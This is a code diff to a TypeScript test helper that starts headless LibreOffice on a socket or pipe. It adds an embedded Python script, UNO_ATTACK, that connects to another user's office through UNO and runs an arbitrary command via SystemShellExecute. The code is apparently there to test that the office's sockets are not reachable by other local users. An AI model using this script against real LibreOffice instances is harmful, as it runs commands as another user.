@@ -1,7 +1,9 @@
-// A headless LibreOffice on its own profile and port, and a way to run Python kit scripts
-// against it from /usr/bin/python3 with python3-uno: the globals a LibreOffice runner gives
-// scripts (uno, ctx, desktop, doc) are set up over the UNO socket instead of in-process.
+// A headless LibreOffice on its own profile and port (or pipe), and a way to run Python kit
+// scripts against it from /usr/bin/python3 with python3-uno: the globals a LibreOffice runner
+// gives scripts (uno, ctx, desktop, doc) are set up over the UNO socket instead of in-process.
+// Also the UNO attack another local user would make on an office it can connect to.
 import { type ChildProcess, execFileSync, spawn } from "node:child_process";
+import { randomBytes } from "node:crypto";
 import { existsSync, mkdtempSync, realpathSync, rmSync } from "node:fs";
 import { createConnection, createServer } from "node:net";
 import { tmpdir } from "node:os";
@@ -10,7 +12,7 @@ import { pathToFileURL } from "node:url";
 import { findOnPath } from "../../adapters/find-executable.js";
 import { pythonKit } from "../../adapters/python/index.js";
 import type { Unwrapped, WrapOptions } from "../../adapters/types.js";
-import { runProcess } from "./run-process.js";
+import { type ProcessResult, runProcess } from "./run-process.js";
 
 /** The system Python that Debian's python3-uno installs `uno` for (not a pyenv one on PATH). */
 export const UNO_PYTHON = "/usr/bin/python3";
@@ -41,6 +43,12 @@ export interface Soffice {
   stop(): Promise<void>;
 }
 
+/** An office accepting on a UNO pipe, as a person would start one for `--connect pipe:NAME`. */
+export interface PipeSoffice {
+  pipe: string;
+  stop(): Promise<void>;
+}
+
 async function freePort(): Promise<number> {
   return new Promise((resolve, reject) => {
     const server = createServer();
@@ -66,12 +74,25 @@ function listening(port: number): Promise<boolean> {
 /** soffice.bin's exit code asking to be started again (it does so once on a fresh profile). */
 const RESTART_EXIT = 81;
 
-/** Starts soffice.bin itself (not the launcher script), so stopping it is one kill by pid. */
-export async function startSoffice(timeoutMs = 60_000): Promise<Soffice> {
+/** Where LibreOffice puts this user's UNO pipe NAME (/tmp, writable on any machine that runs these tests). */
+export function unoPipePath(name: string): string {
+  return `/tmp/OSL_PIPE_${process.getuid!()}_${name}`;
+}
+
+/**
+ * Starts soffice.bin itself (not the launcher script), so stopping it is one kill by pid, with
+ * umask 022 (a pipe it creates is not writable by others); returns how to stop it once it
+ * answers UNO calls at `unoUrl`.
+ */
+async function runOffice(
+  accept: string,
+  accepting: () => Promise<boolean>,
+  unoUrl: string,
+  timeoutMs: number,
+): Promise<() => Promise<void>> {
   const launcher = realpathSync(findOnPath("soffice")!);
   const binary = join(dirname(launcher), "soffice.bin");
   const profile = mkdtempSync(join(tmpdir(), "sw-soffice-"));
-  const port = await freePort();
   const args = [
     "--headless",
     "--invisible",
@@ -80,9 +101,12 @@ export async function startSoffice(timeoutMs = 60_000): Promise<Soffice> {
     "--nodefault",
     "--nolockcheck",
     `-env:UserInstallation=${pathToFileURL(profile).href}`,
-    `--accept=socket,host=127.0.0.1,port=${port};urp;`,
+    `--accept=${accept};urp;`,
   ];
-  const launch = () => spawn(existsSync(binary) ? binary : launcher, args, { stdio: "ignore" });
+  const launch = () =>
+    spawn("/bin/sh", ["-c", 'umask 022 && exec "$0" "$@"', existsSync(binary) ? binary : launcher, ...args], {
+      stdio: "ignore",
+    });
   let child: ChildProcess = launch();
   const stop = async () => {
     if (child.exitCode === null && child.signalCode === null) {
@@ -93,39 +117,70 @@ export async function startSoffice(timeoutMs = 60_000): Promise<Soffice> {
     rmSync(profile, { recursive: true, force: true });
   };
   const deadline = Date.now() + timeoutMs;
-  while (!(await listening(port))) {
+  while (!(await accepting())) {
     // The launcher would restart it; starting soffice.bin directly, that is this loop's job.
     if (child.exitCode === RESTART_EXIT) child = launch();
     else if (child.exitCode !== null || Date.now() > deadline) {
       await stop();
-      throw new Error(
-        `soffice did not listen on port ${port} within ${timeoutMs} ms (exit ${child.exitCode})`,
-      );
+      throw new Error(`soffice did not accept on ${accept} within ${timeoutMs} ms (exit ${child.exitCode})`);
     }
     await new Promise((resolve) => setTimeout(resolve, 200));
   }
-  // The port can listen before the office answers UNO calls: wait until a Desktop can be made.
-  while (!unoAnswers(port)) {
+  // It can accept before the office answers UNO calls: wait until a Desktop can be made.
+  while (!unoAnswers(unoUrl)) {
     if (child.exitCode !== null || Date.now() > deadline) {
       await stop();
-      throw new Error(`soffice on port ${port} did not answer UNO within ${timeoutMs} ms`);
+      throw new Error(`soffice on ${accept} did not answer UNO within ${timeoutMs} ms`);
     }
     await new Promise((resolve) => setTimeout(resolve, 500));
   }
+  return stop;
+}
+
+/** A headless office on its own profile, accepting UNO on a TCP port of 127.0.0.1. */
+export async function startSoffice(timeoutMs = 60_000): Promise<Soffice> {
+  const port = await freePort();
+  const accept = `socket,host=127.0.0.1,port=${port}`;
+  const stop = await runOffice(
+    accept,
+    () => listening(port),
+    `uno:${accept};urp;StarOffice.ComponentContext`,
+    timeoutMs,
+  );
   return { port, stop };
+}
+
+/** A headless office on its own profile, accepting UNO on a pipe with a random name. */
+export async function startPipeSoffice(timeoutMs = 60_000): Promise<PipeSoffice> {
+  const pipe = `sw_test_${randomBytes(8).toString("hex")}`;
+  const accept = `pipe,name=${pipe}`;
+  const path = unoPipePath(pipe);
+  const stop = await runOffice(
+    accept,
+    async () => existsSync(path),
+    `uno:${accept};urp;StarOffice.ComponentContext`,
+    timeoutMs,
+  );
+  return {
+    pipe,
+    async stop() {
+      await stop();
+      rmSync(path, { force: true });
+    },
+  };
 }
 
 const UNO_PROBE = `
 import sys, uno
 local = uno.getComponentContext()
 resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)
-ctx = resolver.resolve("uno:socket,host=127.0.0.1,port=%s;urp;StarOffice.ComponentContext" % sys.argv[1])
+ctx = resolver.resolve(sys.argv[1])
 ctx.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", ctx).getComponents()
 `;
 
-function unoAnswers(port: number): boolean {
+function unoAnswers(url: string): boolean {
   try {
-    execFileSync(UNO_PYTHON, ["-c", UNO_PROBE, String(port)], { stdio: "ignore", timeout: 30_000 });
+    execFileSync(UNO_PYTHON, ["-c", UNO_PROBE, url], { stdio: "ignore", timeout: 30_000 });
     return true;
   } catch {
     return false;
@@ -168,4 +223,116 @@ export async function runUnoPython(port: number, code: string, wrap: WrapOptions
   });
   if (status !== 0) throw new Error(`python-uno harness exited with ${status ?? signal}: ${stderr}`);
   return pythonKit.unwrap(stdout, wrapped);
+}
+
+// The attack another local user can make on an office it can connect to: open a UNO bridge
+// and run a command through SystemShellExecute, as the office's user. Each target is first
+// connected to raw (an unreachable one fails here, with its errno name); a reachable one is
+// relayed through a loopback port of the attacker's, since pyuno's pipe URLs only name
+// sockets of the caller's own uid.
+const UNO_ATTACK = `
+import errno, json, socket, sys, threading, uno
+request = json.load(sys.stdin)
+local = uno.getComponentContext()
+resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)
+
+def open_target(target):
+    if target["protocol"] == "unix":
+        path = target["address"]
+        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        sock.connect("\\0" + path[1:] if path.startswith("@") else path)
+        return sock
+    host, _, port = target["address"].rpartition(":")
+    return socket.create_connection((host.strip("[]"), int(port)), timeout=5)
+
+def pump(source, sink):
+    try:
+        while True:
+            data = source.recv(65536)
+            if not data:
+                break
+            sink.sendall(data)
+    except OSError:
+        pass
+    finally:
+        for end in (source, sink):
+            try:
+                end.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+
+def relay(target):
+    server = socket.create_server(("127.0.0.1", 0))
+    def serve():
+        client, _ = server.accept()
+        upstream = open_target(target)
+        upstream.settimeout(None)
+        threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
+        pump(upstream, client)
+    threading.Thread(target=serve, daemon=True).start()
+    return server.getsockname()[1]
+
+def attack(target, outcome):
+    try:
+        open_target(target).close()
+    except OSError as error:
+        outcome["connect"] = errno.errorcode.get(error.errno, str(error))
+        return
+    outcome["connect"] = "ok"
+    try:
+        url = "uno:socket,host=127.0.0.1,port=%d;urp;StarOffice.ComponentContext" % relay(target)
+        ctx = resolver.resolve(url)
+        shell = ctx.ServiceManager.createInstanceWithContext("com.sun.star.system.SystemShellExecute", ctx)
+        shell.execute(request["command"], request["argument"], 0)
+        outcome["uno"] = "executed"
+    except Exception as error:
+        outcome["uno"] = "%s: %s" % (type(error).__name__, error)
+
+outcomes = []
+threads = []
+for target in request["targets"]:
+    outcome = {"address": target["address"], "connect": None, "uno": None}
+    outcomes.append(outcome)
+    thread = threading.Thread(target=attack, args=(target, outcome), daemon=True)
+    thread.start()
+    threads.append(thread)
+for thread in threads:
+    thread.join(request["timeoutS"])
+print(json.dumps(outcomes), flush=True)
+`;
+
+export interface AttackTarget {
+  protocol: string;
+  /** "127.0.0.1:2002", "[::1]:2002", a unix socket's path or "@abstract". */
+  address: string;
+}
+
+export interface AttackOutcome {
+  address: string;
+  /** "ok" when a connection was opened, else the errno name (EACCES, ECONNREFUSED, …). */
+  connect: string | null;
+  /** "executed" when SystemShellExecute took the command, else the error; null: not reached. */
+  uno: string | null;
+}
+
+/**
+ * Tries each target as an office to run `command argument` in; `runAs` runs the attacker's
+ * Python (as another user, or as this one for a control). A target that never answers is
+ * given up after `timeoutS`.
+ */
+export async function attackOffice(
+  targets: readonly AttackTarget[],
+  command: string,
+  argument: string,
+  runAs: (command: string, args: string[], options: { input: string }) => Promise<ProcessResult>,
+  timeoutS = 20,
+): Promise<AttackOutcome[]> {
+  const input = JSON.stringify({ targets, command, argument, timeoutS });
+  const result = await runAs(UNO_PYTHON, ["-c", UNO_ATTACK], { input });
+  const last = result.stdout.trim().split("\n").pop() ?? "";
+  try {
+    return JSON.parse(last) as AttackOutcome[];
+  } catch {
+    throw new Error(`the attack script failed (${result.code ?? result.signal}): ${result.stderr}`);
+  }
 }
